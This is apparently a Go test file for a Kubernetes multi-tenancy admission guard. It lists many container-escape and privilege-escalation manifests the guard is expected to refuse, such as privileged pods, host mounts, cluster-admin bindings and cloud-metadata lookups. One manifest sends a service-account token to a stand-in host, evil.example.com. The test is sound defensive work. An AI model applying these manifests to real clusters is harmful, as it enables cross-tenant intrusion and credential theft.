package team_test

// escape is one way for a team to get at what is not its own.
type escape struct {
	name   string
	object string
	// says is part of the refusal.
	says string
	// server: the API server refuses it too, by the team's rights, by Pod
	// Security, by its quota or by validation. The others are the guard's alone.
	server bool
	// real: the API server does, but not the one in memory.
	real bool
}

// escapes are those of team blue, in namespace blue, beside team red.
func escapes() []escape {
	pod := func(spec string) string {
		return `{apiVersion: v1, kind: Pod, metadata: {name: x, namespace: blue}, spec: {containers: [{name: c, image: x}], ` + spec + `}}`
	}
	container := func(fields string) string {
		return `{apiVersion: v1, kind: Pod, metadata: {name: x, namespace: blue}, spec: {containers: [{name: c, image: x, ` + fields + `}]}}`
	}
	return []escape{
		{"a RoleBinding gives itself more", `{apiVersion: rbac.authorization.k8s.io/v1, kind: RoleBinding, metadata: {name: x, namespace: blue}, roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}, subjects: [{kind: ServiceAccount, name: default, namespace: blue}]}`, "may not contain objects of kind RoleBinding", true, false},
		{"a Role gives more", `{apiVersion: rbac.authorization.k8s.io/v1, kind: Role, metadata: {name: x, namespace: blue}, rules: [{apiGroups: ["*"], resources: ["*"], verbs: ["*"]}]}`, "kind Role", true, false},
		{"a ClusterRoleBinding", `{apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRoleBinding, metadata: {name: x}, roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}, subjects: [{kind: ServiceAccount, name: default, namespace: blue}]}`, "kind ClusterRoleBinding", true, false},
		{"a ClusterRole", `{apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole, metadata: {name: x}, rules: []}`, "kind ClusterRole", true, false},
		{"a namespace of its own making", `{apiVersion: v1, kind: Namespace, metadata: {name: blue-2}}`, "kind Namespace", true, false},
		{"its namespace without Pod Security", `{apiVersion: v1, kind: Namespace, metadata: {name: blue, labels: {pod-security.kubernetes.io/enforce: privileged}}}`, "kind Namespace", true, false},
		{"a kind of its own", `{apiVersion: apiextensions.k8s.io/v1, kind: CustomResourceDefinition, metadata: {name: xs.example.com}, spec: {group: example.com, scope: Cluster, names: {plural: xs, kind: X}, versions: []}}`, "kind CustomResourceDefinition", true, false},
		{"a webhook that sees everything", `{apiVersion: admissionregistration.k8s.io/v1, kind: MutatingWebhookConfiguration, metadata: {name: x}, webhooks: []}`, "kind MutatingWebhookConfiguration", true, false},
		{"a webhook that forbids everything", `{apiVersion: admissionregistration.k8s.io/v1, kind: ValidatingWebhookConfiguration, metadata: {name: x}, webhooks: []}`, "kind ValidatingWebhookConfiguration", true, false},
		{"a volume on a node's disk", `{apiVersion: v1, kind: PersistentVolume, metadata: {name: x}, spec: {capacity: {storage: 1Gi}, accessModes: [ReadWriteOnce], hostPath: {path: /}}}`, "kind PersistentVolume", true, false},
		{"a priority above all", `{apiVersion: scheduling.k8s.io/v1, kind: PriorityClass, metadata: {name: x}, value: 1000000}`, "kind PriorityClass", true, false},
		{"a bigger quota", `{apiVersion: v1, kind: ResourceQuota, metadata: {name: appspan-team, namespace: blue}, spec: {hard: {requests.cpu: "1000"}}}`, "kind ResourceQuota", true, false},
		{"another default", `{apiVersion: v1, kind: LimitRange, metadata: {name: x, namespace: blue}, spec: {limits: []}}`, "kind LimitRange", true, false},
		{"endpoints of the core group", `{apiVersion: v1, kind: Endpoints, metadata: {name: x, namespace: blue}, subsets: []}`, "kind Endpoints", true, false},
		{"another team's namespace", `{apiVersion: v1, kind: ConfigMap, metadata: {name: x, namespace: red}}`, `"red" is no namespace of team blue`, true, false},
		{"the cluster's namespace", `{apiVersion: v1, kind: Secret, metadata: {name: x, namespace: kube-system}}`, `"kube-system" is no namespace`, true, false},
		{"the accounts of members", `{apiVersion: v1, kind: ServiceAccount, metadata: {name: x, namespace: appspan-members-test}}`, "is no namespace of team blue", true, false},
		{"a host path", pod(`volumes: [{name: v, hostPath: {path: /}}]`), "hostPath", true, false},
		{"the host's network", pod(`hostNetwork: true`), "host namespaces", true, false},
		{"the host's processes", pod(`hostPID: true`), "host namespaces", true, false},
		{"the host's memory", pod(`hostIPC: true`), "host namespaces", true, false},
		{"a host port", container(`ports: [{containerPort: 80, hostPort: 80}]`), "hostPort", true, false},
		{"a privileged container", container(`securityContext: {privileged: true}`), "privileged", true, false},
		{"a privileged init container", pod(`initContainers: [{name: i, image: x, securityContext: {privileged: true}}]`), "privileged", true, false},
		{"a capability", container(`securityContext: {capabilities: {add: [SYS_ADMIN]}}`), "capabilities", true, false},
		{"a host path in a template", `{apiVersion: apps/v1, kind: Deployment, metadata: {name: x, namespace: blue}, spec: {selector: {matchLabels: {a: b}}, template: {metadata: {labels: {a: b}}, spec: {containers: [{name: c, image: x}], volumes: [{name: v, hostPath: {path: /}}]}}}}`, "hostPath", false, false},
		{"a privileged job of a schedule", `{apiVersion: batch/v1, kind: CronJob, metadata: {name: x, namespace: blue}, spec: {schedule: "* * * * *", jobTemplate: {spec: {template: {spec: {restartPolicy: Never, containers: [{name: c, image: x, securityContext: {privileged: true}}]}}}}}}`, "privileged", false, false},
		{"pods on every node", `{apiVersion: apps/v1, kind: DaemonSet, metadata: {name: x, namespace: blue}, spec: {selector: {matchLabels: {a: b}}, template: {metadata: {labels: {a: b}}, spec: {containers: [{name: c, image: x}]}}}}`, "every node", false, false},
		{"an account that others gave rights", pod(`serviceAccountName: builder`), `service account "builder" is not the application's own`, false, false},
		{"the same under its old name", pod(`serviceAccount: builder`), `service account "builder" is not the application's own`, false, false},
		{"a token that does not expire", `{apiVersion: v1, kind: Secret, type: kubernetes.io/service-account-token, metadata: {name: x, namespace: blue, annotations: {kubernetes.io/service-account.name: builder}}}`, "token of a service account", false, false},
		{"past the scheduler", pod(`nodeName: control-plane-1`), "goes past the scheduler", false, false},
		{"the control plane's nodes", pod(`tolerations: [{key: node-role.kubernetes.io/control-plane, operator: Exists}]`), "kept for the control plane", false, false},
		{"everybody's nodes", pod(`tolerations: [{operator: Exists}]`), "kept for the control plane or for others", false, false},
		{"another team's nodes", pod(`nodeSelector: {appspan.dev/team: red}`), "are not the team's", false, false},
		{"another team's nodes by affinity", pod(`affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [{matchExpressions: [{key: appspan.dev/team, operator: Exists}]}]}}}`), "by the team", false, false},
		{"the cluster's priority", pod(`priorityClassName: system-node-critical`), "cluster's own pods", false, false},
		{"others' connections", `{apiVersion: v1, kind: Service, metadata: {name: x, namespace: blue}, spec: {ports: [{port: 443}], externalIPs: [1.1.1.1]}}`, "CVE-2020-8554", false, false},
		{"a load balancer", `{apiVersion: v1, kind: Service, metadata: {name: x, namespace: blue}, spec: {type: LoadBalancer, ports: [{port: 80}]}}`, "load balancer", true, false},
		{"a node port", `{apiVersion: v1, kind: Service, metadata: {name: x, namespace: blue}, spec: {type: NodePort, ports: [{port: 80}]}}`, "node port", true, false},
		{"another team's service by name", `{apiVersion: v1, kind: Service, metadata: {name: x, namespace: blue}, spec: {type: ExternalName, externalName: db.red.svc.cluster.local}}`, "inside the cluster", false, false},
		{"the cloud's metadata", `{apiVersion: v1, kind: Service, metadata: {name: x, namespace: blue}, spec: {type: ExternalName, externalName: metadata.google.internal}}`, "inside the cluster or its cloud", false, false},
		{"another team's pods by address", `{apiVersion: discovery.k8s.io/v1, kind: EndpointSlice, metadata: {name: x, namespace: blue}, addressType: IPv4, endpoints: [{addresses: [10.1.2.3]}], ports: []}`, "addresses of its own choosing", false, false},
		{"the policy that holds the team", `{apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: {name: appspan-team, namespace: blue}, spec: {podSelector: {}}}`, "names that begin with appspan-team", false, false},
		{"a policy that opens egress", `{apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: {name: x, namespace: blue}, spec: {podSelector: {}, egress: [{}]}}`, "policies add up", false, false},
		{"another team's Secret in an annotation", `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {name: x, namespace: blue, annotations: {nginx.ingress.kubernetes.io/auth-tls-secret: red/ca}}, spec: {defaultBackend: {service: {name: x, port: {number: 80}}}}}`, `reads what is in namespace "red"`, false, false},
		{"configuration of the ingress controller", `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {name: x, namespace: blue, annotations: {nginx.ingress.kubernetes.io/server-snippet: x}}, spec: {defaultBackend: {service: {name: x, port: {number: 80}}}}}`, "rights of the ingress controller", false, false},
		{"another team's service through a Gateway", `{apiVersion: gateway.networking.k8s.io/v1, kind: HTTPRoute, metadata: {name: x, namespace: blue}, spec: {parentRefs: [{name: g, namespace: gateways}], rules: [{backendRefs: [{name: db, namespace: red, port: 80}]}]}}`, `"red" is no namespace of the team`, false, false},
		{"another team's service by a route of a mesh", `{apiVersion: gateway.networking.k8s.io/v1, kind: HTTPRoute, metadata: {name: x, namespace: blue}, spec: {parentRefs: [{group: "", kind: Service, name: db, namespace: red}]}}`, `Service of namespace "red"`, false, false},
		{"another team's metrics", `{apiVersion: monitoring.coreos.com/v1, kind: ServiceMonitor, metadata: {name: x, namespace: blue}, spec: {namespaceSelector: {any: true}, endpoints: []}}`, "metrics of other namespaces", false, false},
		{"the monitor's own token", `{apiVersion: monitoring.coreos.com/v1, kind: ServiceMonitor, metadata: {name: x, namespace: blue}, spec: {endpoints: [{bearerTokenFile: /var/run/secrets/token}]}}`, "file of the program", false, false},
		{"others' credentials for scaling", `{apiVersion: keda.sh/v1alpha1, kind: ScaledObject, metadata: {name: x, namespace: blue}, spec: {triggers: [{authenticationRef: {name: x, kind: ClusterTriggerAuthentication}}]}}`, "is not the team's", false, false},
		{"a volume that others left", `{apiVersion: v1, kind: PersistentVolumeClaim, metadata: {name: x, namespace: blue}, spec: {accessModes: [ReadWriteOnce], volumeName: pv-of-red, resources: {requests: {storage: 1Gi}}}}`, "may hold the data of others", false, false},
		{"a volume that is there for others", `{apiVersion: v1, kind: PersistentVolumeClaim, metadata: {name: x, namespace: blue}, spec: {accessModes: [ReadWriteOnce], storageClassName: "", resources: {requests: {storage: 1Gi}}}}`, "may be for others", false, false},
		{"another team's volume as a source", `{apiVersion: v1, kind: PersistentVolumeClaim, metadata: {name: x, namespace: blue}, spec: {accessModes: [ReadWriteOnce], dataSourceRef: {apiGroup: snapshot.storage.k8s.io, kind: VolumeSnapshot, name: x, namespace: red}, resources: {requests: {storage: 1Gi}}}}`, `"red" is no namespace`, false, false},
		{"a pod that is not what it seems", `{apiVersion: v1, kind: Pod, metadata: {name: x, namespace: blue}, spec: {hostNetwork: true, containers: [{name: c, image: x}]}, Spec: {containers: []}}`, "can be read in more than one way", true, false},
		{"a privileged function", `{apiVersion: serving.knative.dev/v1, kind: Service, metadata: {name: x, namespace: blue}, spec: {template: {spec: {containers: [{image: x, securityContext: {privileged: true}}]}}}}`, "privileged", false, false},
		{"a certificate for another user", `{apiVersion: certificates.k8s.io/v1, kind: CertificateSigningRequest, metadata: {name: x}, spec: {request: eA==, signerName: kubernetes.io/kube-apiserver-client, usages: [client auth]}}`, "kind CertificateSigningRequest", true, false},
		{"whose token it is", `{apiVersion: authentication.k8s.io/v1, kind: TokenReview, metadata: {name: x}, spec: {token: x}}`, "kind TokenReview", false, false},
		{"a node of its own", `{apiVersion: v1, kind: Node, metadata: {name: x}}`, "kind Node", true, false},
		{"a storage class of its own", `{apiVersion: storage.k8s.io/v1, kind: StorageClass, metadata: {name: x}, provisioner: kubernetes.io/no-provisioner}`, "kind StorageClass", true, false},
		{"a storage driver of its own", `{apiVersion: storage.k8s.io/v1, kind: CSIDriver, metadata: {name: x.example.com}, spec: {}}`, "kind CSIDriver", true, false},
		{"a runtime of its own", `{apiVersion: node.k8s.io/v1, kind: RuntimeClass, metadata: {name: x}, handler: runc}`, "kind RuntimeClass", true, false},
		{"an ingress class of its own", `{apiVersion: networking.k8s.io/v1, kind: IngressClass, metadata: {name: x}, spec: {controller: example.com/x}}`, "kind IngressClass", true, false},
		{"an admission policy", `{apiVersion: admissionregistration.k8s.io/v1, kind: ValidatingAdmissionPolicyBinding, metadata: {name: x}, spec: {policyName: x, validationActions: [Deny]}}`, "kind ValidatingAdmissionPolicyBinding", true, false},
		{"an API of its own", `{apiVersion: apiregistration.k8s.io/v1, kind: APIService, metadata: {name: v1.example.com}, spec: {group: example.com, version: v1, groupPriorityMinimum: 1, versionPriority: 1}}`, "kind APIService", true, false},
		{"a share of the API server", `{apiVersion: flowcontrol.apiserver.k8s.io/v1, kind: FlowSchema, metadata: {name: x}, spec: {priorityLevelConfiguration: {name: exempt}}}`, "kind FlowSchema", true, false},
		{"a lease of the control plane", `{apiVersion: coordination.k8s.io/v1, kind: Lease, metadata: {name: kube-scheduler, namespace: kube-system}}`, "kind Lease", true, false},
		{"a token of the control plane's account", `{apiVersion: v1, kind: Secret, type: kubernetes.io/service-account-token, metadata: {name: x, namespace: kube-system, annotations: {kubernetes.io/service-account.name: clusterrole-aggregation-controller}}}`, `"kube-system" is no namespace`, true, false},
		{"rights that aggregate into those of others", `{apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole, metadata: {name: x, labels: {rbac.authorization.k8s.io/aggregate-to-view: "true"}}, rules: [{apiGroups: [""], resources: [secrets], verbs: [get]}]}`, "kind ClusterRole", true, false},
		{"a host's processes by Windows", pod(`securityContext: {windowsOptions: {hostProcess: true}}, hostNetwork: true`), "hostProcess", true, false},
		{"no seccomp", pod(`securityContext: {seccompProfile: {type: Unconfined}}`), "seccomp", false, true},
		{"no AppArmor", pod(`securityContext: {appArmorProfile: {type: Unconfined}}`), "AppArmor", false, true},
		{"no AppArmor by annotation", `{apiVersion: v1, kind: Pod, metadata: {name: x, namespace: blue, annotations: {container.apparmor.security.beta.kubernetes.io/c: unconfined}}, spec: {containers: [{name: c, image: x}]}}`, "AppArmor", false, true},
		{"another SELinux domain", pod(`securityContext: {seLinuxOptions: {type: spc_t}}`), "seLinuxOptions", false, true},
		{"the host's proc", container(`securityContext: {procMount: Unmasked}`), "procMount", false, true},
		{"the node's kernel", pod(`securityContext: {sysctls: [{name: kernel.msgmax, value: "1"}]}`), "sysctls", false, true},
		{"a privileged ephemeral container", pod(`ephemeralContainers: [{name: e, image: x, securityContext: {privileged: true}}]`), "privileged", false, true},
		{"an owner that cannot go", `{apiVersion: v1, kind: ConfigMap, metadata: {name: x, namespace: blue, ownerReferences: [{apiVersion: v1, kind: Node, name: node-1, uid: 0a1b2c3d-0000-4000-8000-000000000000, blockOwnerDeletion: true}]}}`, "what owns an object", false, false},
		{"a namespace that cannot go", `{apiVersion: v1, kind: ConfigMap, metadata: {name: x, namespace: blue, finalizers: [example.com/never]}}`, "being deleted", false, false},
		{"pods that cannot go", `{apiVersion: apps/v1, kind: Deployment, metadata: {name: x, namespace: blue}, spec: {selector: {matchLabels: {a: b}}, template: {metadata: {labels: {a: b}, finalizers: [example.com/never]}, spec: {containers: [{name: c, image: x}]}}}}`, "being deleted", false, false},
		{"others' files by NFS", pod(`volumes: [{name: v, nfs: {server: 10.0.0.1, path: /exports/red}}]`), "data of others", false, false},
		{"others' disks by id", pod(`volumes: [{name: v, awsElasticBlockStore: {volumeID: vol-of-red}}]`), "data of others", false, false},
		{"others' files by an inline driver", pod(`volumes: [{name: v, csi: {driver: nfs.csi.k8s.io, volumeAttributes: {server: 10.0.0.1, share: /exports/red}}}]`), "data of others", false, false},
		{"a volume that others left, as long as the pod", pod(`volumes: [{name: v, ephemeral: {volumeClaimTemplate: {spec: {accessModes: [ReadWriteOnce], volumeName: pv-of-red, resources: {requests: {storage: 1Gi}}}}}}]`), "may hold the data of others", false, false},
		{"a claim of a set that says it is bound", `{apiVersion: apps/v1, kind: StatefulSet, metadata: {name: x, namespace: blue}, spec: {serviceName: x, selector: {matchLabels: {a: b}}, template: {metadata: {labels: {a: b}}, spec: {containers: [{name: c, image: x}]}}, volumeClaimTemplates: [{metadata: {name: v, annotations: {pv.kubernetes.io/bind-completed: "yes"}}, spec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}}]}}`, "bound already", false, false},
		{"the passwords of the registry as a file", pod(`volumes: [{name: v, secret: {secretName: appspan-team-pull}}]`), "for pulling images", false, false},
		{"the passwords of the registry among others", pod(`volumes: [{name: v, projected: {sources: [{secret: {name: appspan-team-pull}}]}}]`), "for pulling images", false, false},
		{"the passwords of the registry in the environment", container(`env: [{name: A, valueFrom: {secretKeyRef: {name: appspan-team-pull, key: .dockerconfigjson}}}]`), "for pulling images", false, false},
		{"nodes without pods of others", pod(`affinity: {podAntiAffinity: {requiredDuringSchedulingIgnoredDuringExecution: [{topologyKey: kubernetes.io/hostname, labelSelector: {}, namespaceSelector: {}}]}}`), "keeps pods of other namespaces away", false, false},
		{"nodes without pods of red", pod(`affinity: {podAntiAffinity: {preferredDuringSchedulingIgnoredDuringExecution: [{weight: 1, podAffinityTerm: {topologyKey: kubernetes.io/hostname, labelSelector: {}, namespaces: [red]}}]}}`), "keeps pods of other namespaces away", false, false},
		{"a priority that drives out others", pod(`priorityClassName: high`), "drive out those of others", true, false},
		{"another runtime", pod(`runtimeClassName: runc`), "hold pods less well", false, true},
		{"another network", `{apiVersion: v1, kind: Pod, metadata: {name: x, namespace: blue, annotations: {k8s.v1.cni.cncf.io/networks: kube-system/storage}}, spec: {containers: [{name: c, image: x}]}}`, "past the team's network policy", false, false},
		{"an autoscaler of what another application reserved", `{apiVersion: autoscaling/v2, kind: HorizontalPodAutoscaler, metadata: {name: x, namespace: blue}, spec: {maxReplicas: 100, scaleTargetRef: {apiVersion: apps/v1, kind: Deployment, name: other}}}`, "not in the same application", false, false},
		{"a function without a bound", `{apiVersion: serving.knative.dev/v1, kind: Service, metadata: {name: x, namespace: blue}, spec: {template: {spec: {containers: [{image: x}]}}}}`, "without a bound", false, false},
		{"the cluster by an address in other words", `{apiVersion: v1, kind: Service, metadata: {name: x, namespace: blue}, spec: {type: ExternalName, externalName: 0xa9.0xfe.0xa9.0xfe}}`, "inside the cluster", false, false},
		{"a file of the ingress controller", `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {name: x, namespace: blue, annotations: {haproxy-ingress.github.io/config-backend: x}}, spec: {defaultBackend: {service: {name: x, port: {number: 80}}}}}`, "rights of the ingress controller", false, false},
		{"another team's headers", `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {name: x, namespace: blue, annotations: {nginx.ingress.kubernetes.io/auth-proxy-set-headers: red/headers}}, spec: {defaultBackend: {service: {name: x, port: {number: 80}}}}}`, `reads what is in namespace "red"`, false, false},
		{"the autoscaler's own identity", `{apiVersion: keda.sh/v1alpha1, kind: TriggerAuthentication, metadata: {name: x, namespace: blue}, spec: {podIdentity: {provider: aws}}}`, "rights of the autoscaler", false, false},
		{"the autoscaler's own token", `{apiVersion: keda.sh/v1alpha1, kind: TriggerAuthentication, metadata: {name: x, namespace: blue}, spec: {hashiCorpVault: {address: "https://evil.example.com", authentication: kubernetes, credential: {serviceAccount: /var/run/secrets/kubernetes.io/serviceaccount/token}}}}`, "on its files", false, false},
		{"the autoscaler's identity by a trigger", `{apiVersion: keda.sh/v1alpha1, kind: ScaledObject, metadata: {name: x, namespace: blue}, spec: {scaleTargetRef: {name: x}, triggers: [{type: aws-sqs-queue, metadata: {identityOwner: operator}}]}}`, "", false, false},
		{"others' metrics by address", `{apiVersion: monitoring.coreos.com/v1, kind: PodMonitor, metadata: {name: x, namespace: blue}, spec: {selector: {}, podMetricsEndpoints: [{relabelings: [{targetLabel: __address__, replacement: "10.0.0.1:9100"}]}]}}`, "addresses of others", false, false},
		{"others' metrics by a label of a label", `{apiVersion: monitoring.coreos.com/v1, kind: PodMonitor, metadata: {name: x, namespace: blue}, spec: {selector: {}, podMetricsEndpoints: [{relabelings: [{action: labelmap, regex: __meta_kubernetes_pod_annotation_a(.+)}]}]}}`, "addresses of others", false, false},
	}
}

// harmless is an application that a team may run.
const harmless = `{apiVersion: v1, kind: Pod, metadata: {name: bare, namespace: blue}, spec: {containers: [{name: c, image: x}]}}
---
{apiVersion: v1, kind: ServiceAccount, metadata: {name: web, namespace: blue}}
---
{apiVersion: v1, kind: Secret, metadata: {name: web, namespace: blue}, stringData: {a: b}}
---
{apiVersion: v1, kind: ConfigMap, metadata: {name: web, namespace: blue}, data: {a: b}}
---
{apiVersion: v1, kind: PersistentVolumeClaim, metadata: {name: web, namespace: blue}, spec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}}
---
{apiVersion: v1, kind: Service, metadata: {name: web, namespace: blue}, spec: {selector: {app: web}, ports: [{port: 80}]}}
---
{apiVersion: v1, kind: Service, metadata: {name: db, namespace: blue}, spec: {type: ExternalName, externalName: db.example.com}}
---
{apiVersion: v1, kind: Service, metadata: {name: alias, namespace: blue}, spec: {type: ExternalName, externalName: web.blue.svc.cluster.local}}
---
{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {name: web, namespace: blue, annotations: {nginx.ingress.kubernetes.io/auth-secret: web}}, spec: {defaultBackend: {service: {name: web, port: {number: 80}}}}}
---
{apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: {name: web, namespace: blue}, spec: {podSelector: {}, policyTypes: [Ingress]}}
---
{apiVersion: apps/v1, kind: Deployment, metadata: {name: web, namespace: blue}, spec: {selector: {matchLabels: {app: web}}, template: {metadata: {labels: {app: web}}, spec: {serviceAccountName: web, tolerations: [{key: example.com/gpu, operator: Exists}], containers: [{name: c, image: x}]}}}}
---
{apiVersion: v1, kind: Pod, metadata: {name: token, namespace: blue}, spec: {containers: [{name: c, image: x}], volumes: [{name: v, projected: {sources: [{serviceAccountToken: {audience: vault, path: token}}]}}, {name: e, ephemeral: {volumeClaimTemplate: {spec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}}}}]}}
---
{apiVersion: v1, kind: Pod, metadata: {name: apart, namespace: blue}, spec: {containers: [{name: c, image: x}], affinity: {podAntiAffinity: {preferredDuringSchedulingIgnoredDuringExecution: [{weight: 1, podAffinityTerm: {topologyKey: kubernetes.io/hostname, labelSelector: {matchLabels: {app: web}}}}]}}}}
---
{apiVersion: apps/v1, kind: StatefulSet, metadata: {name: db, namespace: blue}, spec: {serviceName: db, selector: {matchLabels: {app: db}}, template: {metadata: {labels: {app: db}}, spec: {containers: [{name: c, image: x}]}}}}
---
{apiVersion: batch/v1, kind: Job, metadata: {name: once, namespace: blue}, spec: {template: {spec: {restartPolicy: Never, containers: [{name: c, image: x}]}}}}
---
{apiVersion: batch/v1, kind: CronJob, metadata: {name: often, namespace: blue}, spec: {schedule: "@daily", jobTemplate: {spec: {template: {spec: {restartPolicy: Never, containers: [{name: c, image: x}]}}}}}}
---
{apiVersion: autoscaling/v2, kind: HorizontalPodAutoscaler, metadata: {name: web, namespace: blue}, spec: {maxReplicas: 3, scaleTargetRef: {apiVersion: apps/v1, kind: Deployment, name: web}}}
---
{apiVersion: policy/v1, kind: PodDisruptionBudget, metadata: {name: web, namespace: blue}, spec: {maxUnavailable: 1, selector: {matchLabels: {app: web}}}}`
